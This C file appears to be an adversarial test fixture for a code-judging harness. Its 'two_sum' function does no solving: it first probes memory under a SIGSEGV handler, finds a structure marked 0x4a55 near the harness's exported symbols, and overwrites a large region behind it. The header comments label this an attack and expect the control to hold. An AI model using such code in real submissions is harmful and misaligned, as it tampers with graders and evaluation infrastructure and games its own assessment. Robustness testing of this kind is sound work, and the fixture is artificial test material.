/* attack: fill the shared answer area behind the harness's back
 * allowed: wrong_answer runtime_error memory_limit_exceeded time_limit_exceeded
 * invariant: the limit holds and is named; the machine does not suffer
 * control: stands
 */
#include <stdlib.h>
#include <signal.h>
#include <setjmp.h>
#include <stdio.h>
#include <string.h>

/* The harness keeps its state near the symbols that it exports. A handler makes reading safe. */
static sigjmp_buf back;

static void unreadable(int s)
{
    (void)s;
    siglongjmp(back, 1);
}

static int readable(const volatile unsigned char *p)
{
    static int ready;
    struct sigaction on = {.sa_handler = unreadable, .sa_flags = SA_NODEFER};
    volatile int yes = 0;
    if (!ready++) {
        sigaction(SIGSEGV, &on, NULL);
        sigaction(SIGBUS, &on, NULL);
    }
    if (sigsetjmp(back, 0) == 0) {
        (void)*p;
        yes = 1;
    }
    return yes;
}

static int page_readable(unsigned long at)
{
    static unsigned long known, good;
    if (known != (at & -4096ul)) {
        known = at & -4096ul;
        good = (unsigned long)readable((const volatile unsigned char *)known);
    }
    return (int)good;
}

static void fill(void)
{
    unsigned long around = (unsigned long)&stdin & -4096ul;
    for (unsigned long at = around - (1 << 18); at < around + (1 << 18); at += 8) {
        if (!page_readable(at))
            continue;
        unsigned long p = *(unsigned long *)at;
        if (p <= 4096 || p >= 0x800000000000 || p % 4096 != 0 || !page_readable(p) ||
            *(unsigned *)p != 0x4a55)
            continue;
        for (unsigned long far = p + 8192; page_readable(far) && far < p + (1ul << 32); far += 4096)
            if (sigsetjmp(back, 0) == 0)
                *(volatile char *)far = 1;
            else
                break;
    }
}

int *two_sum(int *nums, int nums_size, int target, int *return_size)
{
    fill();
    *return_size = 0;
    return NULL;
}
